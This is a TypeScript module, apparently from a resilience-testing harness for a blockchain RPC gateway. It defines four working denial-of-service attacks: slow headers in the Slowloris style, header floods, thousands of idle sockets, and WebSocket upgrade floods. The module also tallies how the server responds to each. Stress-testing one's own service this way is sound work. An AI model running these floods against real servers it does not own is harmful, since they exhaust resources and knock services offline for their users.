/** Attacks below the requests: headers that arrive slowly or are large, sockets that stay idle, and upgrades. */

import { type Attack, count, hosts } from '../attack.ts';
import { many, request } from '../many.ts';
import { opened, pause, post, untilCut, upgrade } from '../raw.ts';

export const slowHeaders: Attack = {
  name: 'slow headers',
  run(target, seen, signal) {
    return many(2_000, signal, async () => {
      const socket = await opened(target, seen, signal);
      if (socket === undefined) return pause(500, signal);
      socket.resume();
      socket.write(`POST /v3/${target.key} HTTP/1.1\r\nHost: ${hosts.node}\r\n`);
      const more = setInterval(() => socket.write('X-Slow: 1\r\n'), 1_000);
      await untilCut(socket, seen, signal);
      clearInterval(more);
      await pause(500, signal);
    });
  },
};

export const headerFlood: Attack = {
  name: 'header floods',
  run(target, seen, signal) {
    const fields = Array.from({ length: 300 }, (_, index) => `X-Field-${index}: ${'v'.repeat(35)}`);
    const bytes = post(target, hosts.node, request('web3_clientVersion'), fields);
    return many(64, signal, async () => {
      const socket = await opened(target, seen, signal);
      if (socket === undefined) return pause(100, signal);
      socket.on('data', (data) => {
        const [, status] = /^HTTP\/1\.1 (\d{3})/.exec(data.toString('latin1')) ?? [];
        if (status !== undefined) count(seen, Number(status), '');
        if (!signal.aborted) socket.write(bytes);
      });
      socket.write(bytes);
      await untilCut(socket, seen, signal);
    });
  },
};

export const idleSockets: Attack = {
  name: '5000 idle sockets',
  run(target, seen, signal) {
    let opening = 0;
    return many(5_000, signal, async () => {
      const hasCalled = opening++ % 2 === 0;
      const socket = await opened(target, seen, signal);
      if (socket === undefined) return pause(1_000, signal);
      socket.resume();
      if (hasCalled) socket.write(post(target, hosts.node, request('web3_clientVersion')));
      await untilCut(socket, seen, signal);
      await pause(1_000, signal);
    });
  },
};

export const upgradeFlood: Attack = {
  name: 'upgrade floods',
  run(target, seen, signal) {
    let opening = 0;
    const bytes = [upgrade(target, hosts.node), upgrade({ key: 'unknown' }, hosts.node)];
    return many(64, signal, async () => {
      const socket = await opened(target, seen, signal);
      if (socket === undefined) return pause(100, signal);
      socket.once('data', (data) => {
        const isOpen = data.toString('latin1', 0, 12) === 'HTTP/1.1 101';
        if (isOpen) seen.answered++;
        else seen.refused++;
        socket.destroy();
      });
      socket.write(bytes[opening++ % 2]!);
      await new Promise<void>((resolve) => {
        socket.on('error', () => {});
        socket.once('close', () => resolve());
        signal.addEventListener('abort', () => socket.destroy(), { once: true });
      });
    });
  },
};
